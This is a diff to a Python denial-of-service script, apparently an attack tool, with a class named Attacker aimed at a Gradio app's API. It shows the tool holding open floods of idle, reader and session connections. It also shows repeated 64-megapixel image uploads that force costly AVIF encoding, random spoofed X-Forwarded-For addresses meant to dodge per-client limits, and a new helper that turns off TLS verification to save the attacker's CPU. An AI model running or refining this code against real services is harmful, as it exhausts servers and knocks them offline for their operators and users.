@@ -25,7 +25,7 @@ import httpx
 from PIL import Image
 
 #: Connections of each kind that are kept open.
-SILENT, READERS, SESSIONS = 60, 40, 120
+SILENT, READERS, SESSIONS = 40, 20, 60
 
 #: Calls with large photos at a time.
 CALLS = 8
@@ -63,6 +63,10 @@ class Attacker:
     def _address(self) -> str:
         return f"2001:db8:66:1::{random.getrandbits(16):x}"
 
+    def _client(self, headers: dict[str, str] | None = None) -> httpx.Client:
+        # Reading the certificates of TLS would take the time of the server, which has the same cores.
+        return httpx.Client(base_url=f"{self.url}/gradio_api", trust_env=False, verify=False, timeout=600, headers=headers)
+
     def _connections(self, count: int, request: Callable[[int], str], *, if_answered: bool) -> None:
         """Keep `count` connections open on which a request was sent, and replace those that the server closes."""
         clients: list[socket.socket] = []
@@ -98,7 +102,7 @@ class Attacker:
     def call(self) -> None:
         """Upload a photo of 64 megapixels and have its cutout encoded as AVIF."""
         headers = {"X-Forwarded-For": self._address()}
-        with httpx.Client(base_url=f"{self.url}/gradio_api", trust_env=False, timeout=600, headers=headers) as client:
+        with self._client(headers=headers) as client:
             (path,) = client.post("/upload", files={"files": ("large.jpg", self.photo)}).raise_for_status().json()
             image = {"path": path, "orig_name": "large.jpg", "meta": {"_type": "gradio.FileData"}}
             data = [image, "builtin", "transparent", False, "avif"]
@@ -111,7 +115,7 @@ class Attacker:
 
     def open_sessions(self) -> None:
         """Start sessions, each with an event and a heartbeat that stays open."""
-        with contextlib.ExitStack() as stack, httpx.Client(base_url=f"{self.url}/gradio_api", trust_env=False) as client:
+        with contextlib.ExitStack() as stack, self._client() as client:
             for _ in range(SESSIONS // 4):
                 name, headers = f"session-{next(self._numbers)}-{random.random()}", {"X-Forwarded-For": self._address()}
                 body = json.dumps({"data": [], "session_hash": name})
